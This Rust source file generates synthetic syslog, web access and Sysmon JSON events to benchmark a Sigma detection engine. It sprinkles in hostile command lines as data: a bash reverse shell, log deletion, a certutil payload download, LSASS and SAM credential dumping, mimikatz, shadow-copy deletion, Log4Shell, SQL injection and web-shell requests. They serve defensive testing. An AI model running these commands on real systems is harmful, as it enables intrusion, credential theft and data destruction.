//! Realistic event generators for the benchmark lanes: syslog lines (sshd,
//! sudo, PAM, cron, kernel firewall, systemd, network devices), web access
//! lines and Sysmon-shaped Windows JSON events. Mostly benign traffic with a
//! sprinkling (about 1%) of attack patterns that SigmaHQ rules detect.

use qalqan_sigma::synth::Rng;

fn pick<'a>(rng: &mut Rng, items: &'a [&'a str]) -> &'a str {
    items[rng.below(items.len())]
}

fn ip(rng: &mut Rng) -> String {
    match rng.below(4) {
        0 => format!(
            "10.{}.{}.{}",
            rng.below(256),
            rng.below(256),
            1 + rng.below(254)
        ),
        1 => format!("192.168.{}.{}", rng.below(256), 1 + rng.below(254)),
        _ => format!(
            "{}.{}.{}.{}",
            1 + rng.below(223),
            rng.below(256),
            rng.below(256),
            1 + rng.below(254)
        ),
    }
}

const USERS: [&str; 10] = [
    "root", "admin", "alice", "bob", "deploy", "oracle", "postgres", "test", "ubuntu", "www-data",
];
const HOSTS: [&str; 6] = ["web1", "db-02", "gw-core", "mail", "app03", "bastion"];

fn stamp(rng: &mut Rng) -> String {
    const MON: [&str; 12] = [
        "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
    ];
    format!(
        "{} {:>2} {:02}:{:02}:{:02}",
        MON[rng.below(12)],
        1 + rng.below(28),
        rng.below(24),
        rng.below(60),
        rng.below(60)
    )
}

/// One syslog line.
pub fn syslog_line(rng: &mut Rng) -> String {
    let ts = stamp(rng);
    let host = pick(rng, &HOSTS);
    let pid = 1000 + rng.below(60000);
    let user = pick(rng, &USERS);
    let src = ip(rng);
    let port = 1024 + rng.below(64000);
    if rng.chance(1) {
        // attack patterns SigmaHQ Linux keyword rules look for
        return match rng.below(6) {
            0 => format!("{ts} {host} sshd[{pid}]: Corrupted MAC on input. [preauth]"),
            1 => format!("{ts} {host} bash[{pid}]: bash -i >& /dev/tcp/{src}/4444 0>&1"),
            2 => format!("{ts} {host} sshd[{pid}]: fatal: buffer_get_string: bad string [preauth]"),
            3 => format!("{ts} {host} useradd[{pid}]: new user: name=svc{pid}, UID=0, GID=0, home=/root, shell=/bin/bash"),
            4 => format!("{ts} {host} kernel: [ 1234.5678] rm -rf /var/log/syslog"),
            _ => format!("{ts} {host} sudo: {user} : TTY=pts/0 ; PWD=/tmp ; USER=#-1 ; COMMAND=/bin/bash"),
        };
    }
    match rng.below(16) {
        0 => format!("{ts} {host} sshd[{pid}]: Failed password for {user} from {src} port {port} ssh2"),
        1 => format!("{ts} {host} sshd[{pid}]: Failed password for invalid user {user} from {src} port {port} ssh2"),
        2 => format!("{ts} {host} sshd[{pid}]: Accepted publickey for {user} from {src} port {port} ssh2: RSA SHA256:kq2Xb0d4Q"),
        3 => format!("{ts} {host} sshd[{pid}]: Invalid user {user} from {src} port {port}"),
        4 => format!("{ts} {host} sshd[{pid}]: Received disconnect from {src} port {port}:11: Bye Bye [preauth]"),
        5 => format!("{ts} {host} sshd[{pid}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={src}  user={user}"),
        6 => format!("{ts} {host} sshd[{pid}]: pam_unix(sshd:session): session opened for user {user}(uid=1000) by (uid=0)"),
        7 => format!("{ts} {host} sudo:    {user} : TTY=pts/1 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx"),
        8 => format!("{ts} {host} CRON[{pid}]: ({user}) CMD (/usr/local/bin/backup.sh > /dev/null 2>&1)"),
        9 => format!("{ts} {host} kernel: [{}.{:06}] [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00 SRC={src} DST=10.0.0.5 LEN=60 TOS=0x00 PREC=0x00 TTL=49 ID=0 DF PROTO=TCP SPT={port} DPT={} WINDOW=64240 RES=0x00 SYN URGP=0", rng.below(99999), rng.below(999999), pick(rng, &["22", "23", "445", "3389", "8080"])),
        10 => format!("{ts} {host} systemd[1]: Started Session {pid} of user {user}."),
        11 => format!("{ts} {host} systemd-logind[{pid}]: New session {pid} of user {user}."),
        12 => format!("{ts} {host} %SEC-6-IPACCESSLOGP: list 101 denied tcp {src}({port}) -> 10.0.0.1(22), 1 packet"),
        13 => format!("{ts} {host} RT_FLOW: RT_FLOW_SESSION_CREATE: session created {src}/{port}->10.0.0.8/443 junos-https {src}/{port}->10.0.0.8/443 None None 6 trust-to-untrust trust untrust 4000{pid}"),
        14 => format!("{ts} {host} %%01SHELL/5/CMDRECORD(s)[{pid}]:Recorded command information. (Task=VT0, Ip={src}, VpnName=, User={user}, AuthenticationMethod=\"Local-user\", Command=\"display current-configuration\")"),
        _ => format!("{ts} {host} postfix/smtpd[{pid}]: connect from unknown[{src}]"),
    }
}

/// One web access line (combined log format).
pub fn web_line(rng: &mut Rng) -> String {
    const PATHS: [&str; 12] = [
        "/",
        "/index.html",
        "/static/app.js",
        "/static/style.css",
        "/api/v1/services",
        "/login",
        "/search",
        "/news/2025/03/budget",
        "/favicon.ico",
        "/images/logo.png",
        "/api/v1/forms/submit",
        "/robots.txt",
    ];
    const UAS: [&str; 5] = [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
        "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 Version/17.1 Safari/605.1.15",
        "Googlebot/2.1 (+http://www.google.com/bot.html)",
    ];
    let src = ip(rng);
    let day = 1 + rng.below(28);
    let (h, m, s) = (rng.below(24), rng.below(60), rng.below(60));
    let (method, path, status, ua) = if rng.chance(1) {
        let attack = match rng.below(8) {
            0 => "/index.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
            1 => "/cgi-bin/../../../../etc/passwd",
            2 => "/search?q=${jndi:ldap://203.0.113.5:1389/a}",
            3 => "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
            4 => "/?q=<script>alert(document.cookie)</script>",
            5 => "/mgmt/tm/util/bash",
            6 => "/.git/config",
            _ => "/shell.php?cmd=whoami",
        };
        let ua = pick(
            rng,
            &[
                "sqlmap/1.7.2#stable (https://sqlmap.org)",
                "Nikto/2.5.0",
                "curl/8.4.0",
                "python-requests/2.31.0",
                "Mozilla/5.0 zgrab/0.x",
            ],
        );
        ("GET", attack.to_owned(), 404, ua.to_owned())
    } else {
        let path = PATHS[rng.below(PATHS.len())];
        let q = if rng.chance(30) {
            format!("?page={}&lang=ru", rng.below(50))
        } else {
            String::new()
        };
        let method = if rng.chance(10) { "POST" } else { "GET" };
        let status = [200, 200, 200, 200, 304, 301, 404, 500][rng.below(8)];
        (
            method,
            format!("{path}{q}"),
            status,
            UAS[rng.below(UAS.len())].to_owned(),
        )
    };
    format!(
        "{src} - - [{day:02}/Mar/2025:{h:02}:{m:02}:{s:02} +0000] \"{method} {path} HTTP/1.1\" {status} {} \"https://portal.gov.example/\" \"{ua}\"",
        200 + rng.below(50000)
    )
}

fn json_str(s: &str) -> String {
    serde_json::Value::String(s.to_owned()).to_string()
}

/// Fills a command line's placeholders with fresh values: `{n}` a number,
/// `{hex}` 16 hex digits, `{guid}` a GUID. In real Sysmon data about half
/// of the command lines carry such per-run parts (renderer ids, temp and
/// document names, task GUIDs), so most of them are never seen twice.
fn vary(rng: &mut Rng, template: &str) -> String {
    let mut out = String::with_capacity(template.len() + 32);
    let mut rest = template;
    while let Some(at) = rest.find('{') {
        out.push_str(&rest[..at]);
        let tail = &rest[at..];
        let (fill, used) = if tail.starts_with("{n}") {
            (rng.below(1_000_000).to_string(), 3)
        } else if tail.starts_with("{hex}") {
            (format!("{:016X}", rng.next_u64()), 5)
        } else if tail.starts_with("{guid}") {
            let v = rng.next_u64();
            let w = rng.next_u64();
            (
                format!(
                    "{:08X}-{:04X}-{:04X}-{:04X}-{:012X}",
                    v >> 32,
                    (v >> 16) & 0xFFFF,
                    v & 0xFFFF,
                    w >> 48,
                    w & 0xFFFF_FFFF_FFFF
                ),
                6,
            )
        } else {
            ("{".to_owned(), 1)
        };
        out.push_str(&fill);
        rest = &tail[used..];
    }
    out.push_str(rest);
    out
}

/// One Sysmon-shaped Windows event as JSON.
pub fn sysmon_json(rng: &mut Rng) -> String {
    const BENIGN: [(&str, &str); 10] = [
        (
            r"C:\Windows\System32\svchost.exe",
            r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
        ),
        (
            r"C:\Program Files\Google\Chrome\Application\chrome.exe",
            r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --field-trial-handle={n},i,{hex},{hex},262144 --renderer-client-id={n} --launch-time-ticks={n}"#,
        ),
        (r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE"),
        (
            r"C:\Windows\System32\conhost.exe",
            r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
        ),
        (
            r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
            r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\alice\Documents\report_{n}.docx""#,
        ),
        (
            r"C:\Windows\System32\taskhostw.exe",
            r"taskhostw.exe {{guid}}",
        ),
        (
            r"C:\Windows\System32\backgroundTaskHost.exe",
            r#""C:\Windows\system32\backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider"#,
        ),
        (
            r"C:\Program Files\7-Zip\7z.exe",
            r#""C:\Program Files\7-Zip\7z.exe" x archive_{n}.zip -oC:\Temp\out{n}"#,
        ),
        (
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            r#"powershell.exe -NoProfile -File C:\Scripts\inventory.ps1"#,
        ),
        (
            r"C:\Windows\System32\cmd.exe",
            r#"C:\Windows\system32\cmd.exe /c "dir C:\Users\Public""#,
        ),
    ];
    const BAD: [(&str, &str); 8] = [
        (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),
        (r"C:\Windows\System32\certutil.exe", "certutil.exe -urlcache -split -f http://203.0.113.7/p.exe C:\\Users\\Public\\p.exe"),
        (r"C:\Windows\System32\rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full"),
        (r"C:\Windows\System32\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
        (r"C:\Windows\System32\whoami.exe", "whoami /priv"),
        (r"C:\Windows\System32\reg.exe", "reg save HKLM\\SAM C:\\temp\\sam.save"),
        (r"C:\Users\Public\mimikatz.exe", "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit"),
        (r"C:\Windows\System32\schtasks.exe", "schtasks /create /sc minute /mo 5 /tn Updater /tr C:\\Users\\Public\\u.exe /ru SYSTEM"),
    ];
    const PARENTS: [(&str, &str); 4] = [
        (r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE"),
        (
            r"C:\Windows\System32\services.exe",
            r"C:\Windows\system32\services.exe",
        ),
        (
            r"C:\Windows\System32\cmd.exe",
            r"C:\Windows\system32\cmd.exe",
        ),
        (
            r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
            r#""WINWORD.EXE" /n"#,
        ),
    ];
    let user = pick(
        rng,
        &[
            r"CORP\alice",
            r"CORP\bob",
            r"NT AUTHORITY\SYSTEM",
            r"CORP\svc_backup",
        ],
    );
    let guid = format!(
        "{{{:08x}-{:04x}-{:04x}-0000-0010{:08x}}}",
        rng.next_u64() as u32,
        rng.below(65536),
        rng.below(65536),
        rng.next_u64() as u32
    );
    let pid = 100 + rng.below(20000);
    let utc = format!(
        "2025-03-{:02} {:02}:{:02}:{:02}.{:03}",
        1 + rng.below(28),
        rng.below(24),
        rng.below(60),
        rng.below(60),
        rng.below(1000)
    );
    let computer = pick(
        rng,
        &[
            "WS-0142.corp.example",
            "WS-0077.corp.example",
            "SRV-FILE01.corp.example",
            "DC01.corp.example",
        ],
    );
    let event_id = [1, 1, 1, 1, 3, 7, 11, 13, 22, 10][rng.below(10)];
    let (image, cmd) = if rng.chance(1) {
        BAD[rng.below(BAD.len())]
    } else {
        BENIGN[rng.below(BENIGN.len())]
    };
    let cmd = vary(rng, cmd);
    let (pimage, pcmd) = PARENTS[rng.below(PARENTS.len())];
    let base = format!(
        "\"EventID\":{event_id},\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Computer\":{},\"UtcTime\":\"{utc}\",\"ProcessGuid\":\"{guid}\",\"ProcessId\":{pid},\"Image\":{},\"User\":{}",
        json_str(computer),
        json_str(image),
        json_str(user)
    );
    let file = image.rsplit('\\').next().unwrap_or("x.exe");
    match event_id {
        1 => format!(
            "{{{base},\"CommandLine\":{},\"CurrentDirectory\":\"C:\\\\Windows\\\\system32\\\\\",\"IntegrityLevel\":\"{}\",\"Hashes\":\"SHA256={:016X}{:016X},IMPHASH={:016X}\",\"OriginalFileName\":{},\"Company\":\"Microsoft Corporation\",\"Product\":\"Microsoft® Windows® Operating System\",\"Description\":\"{}\",\"FileVersion\":\"10.0.19041.1\",\"ParentProcessGuid\":\"{guid}\",\"ParentProcessId\":{},\"ParentImage\":{},\"ParentCommandLine\":{},\"ParentUser\":{},\"LogonId\":\"0x3e7\",\"TerminalSessionId\":1}}",
            json_str(&cmd),
            pick(rng, &["Medium", "High", "System"]),
            rng.next_u64(),
            rng.next_u64(),
            rng.next_u64(),
            json_str(&file.to_uppercase()),
            file.trim_end_matches(".exe"),
            pid / 2,
            json_str(pimage),
            json_str(pcmd),
            json_str(user),
        ),
        3 => format!(
            "{{{base},\"Protocol\":\"tcp\",\"Initiated\":\"true\",\"SourceIp\":\"10.0.{}.{}\",\"SourcePort\":{},\"DestinationIp\":\"{}\",\"DestinationHostname\":\"{}\",\"DestinationPort\":{}}}",
            rng.below(256),
            1 + rng.below(254),
            49152 + rng.below(16000),
            ip(rng),
            pick(rng, &["www.google.com", "update.microsoft.com", "cdn.example.net", "api.github.com"]),
            pick(rng, &["443", "80", "53", "8443"])
        ),
        7 => format!(
            "{{{base},\"ImageLoaded\":{},\"Signed\":\"true\",\"Signature\":\"Microsoft Windows\",\"SignatureStatus\":\"Valid\",\"OriginalFileName\":\"{}\"}}",
            json_str(pick(rng, &[r"C:\Windows\System32\kernel32.dll", r"C:\Windows\System32\ntdll.dll", r"C:\Windows\System32\wininet.dll", r"C:\Windows\System32\crypt32.dll"])),
            pick(rng, &["kernel32.dll", "ntdll.dll", "wininet.dll"])
        ),
        11 => format!(
            "{{{base},\"TargetFilename\":{},\"CreationUtcTime\":\"{utc}\"}}",
            json_str(&format!(r"C:\Users\alice\AppData\Local\Temp\{}.tmp", rng.below(100000)))
        ),
        13 => format!(
            "{{{base},\"EventType\":\"SetValue\",\"TargetObject\":{},\"Details\":\"DWORD (0x00000001)\"}}",
            json_str(pick(rng, &[r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater", r"HKU\S-1-5-21-1\Software\Microsoft\Office\16.0\Word\MRU\Item 1", r"HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-21-1"]))
        ),
        22 => format!(
            "{{{base},\"QueryName\":\"{}\",\"QueryStatus\":\"0\",\"QueryResults\":\"::ffff:{};\"}}",
            pick(rng, &["www.google.com", "login.microsoftonline.com", "intranet.corp.example", "pastebin.com"]),
            ip(rng)
        ),
        _ => format!(
            "{{{base},\"SourceImage\":{},\"TargetImage\":\"C:\\\\Windows\\\\system32\\\\lsass.exe\",\"GrantedAccess\":\"0x1000\",\"CallTrace\":\"C:\\\\Windows\\\\SYSTEM32\\\\ntdll.dll+9d4c4\"}}",
            json_str(image)
        ),
    }
}
